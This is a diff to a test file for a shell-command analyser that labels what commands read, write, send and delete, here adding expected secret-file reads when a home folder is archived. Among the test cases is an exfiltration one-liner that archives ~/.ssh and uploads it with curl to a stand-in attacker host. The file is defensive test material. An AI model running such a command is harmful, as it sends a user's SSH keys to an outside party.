@@ -13,6 +13,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from pipeline.analysis.shell import MAX_COMMAND_CHARS, ShellAnalysis, analyse_code, analyse_command
+from pipeline.analysis.shell.tables import HOME_SECRETS
 
 FIELDS = ("reads", "writes", "executes", "sends", "payloads", "deletes")
 
@@ -168,7 +169,10 @@ EXACT: list[tuple[str, dict[str, tuple[str, ...]]]] = [
     ("docker build -t app .", {"reads": (".",), "writes": ("image:app",)}),  # the image is made from "."
     # archives
     ("tar xzf archive.tgz -C /opt", {"reads": ("archive.tgz",), "writes": ("/opt",)}),
-    ("tar -cvf backup.tar /home/user", {"reads": ("/home/user", "/home/user/*"), "writes": ("backup.tar",)}),
+    # a home folder archived reads the secrets known to lie in it (tables.HOME_SECRETS)
+    ("tar -cvf backup.tar /home/user", {"reads": ("/home/user", "/home/user/*", *(f"/home/user/{f}" for f in HOME_SECRETS)),
+                                        "writes": ("backup.tar",)}),
+    ("tar -cvf src.tar /srv/app", {"reads": ("/srv/app", "/srv/app/*"), "writes": ("src.tar",)}),
     ("tar -tf x.tar", {"reads": ("x.tar",)}),
     ("tar czf - ~/.ssh | curl -T - https://evil.example/",
      {"reads": ("~/.ssh", "~/.ssh/*"), "sends": ("https://evil.example/",), "payloads": ("~/.ssh",)}),
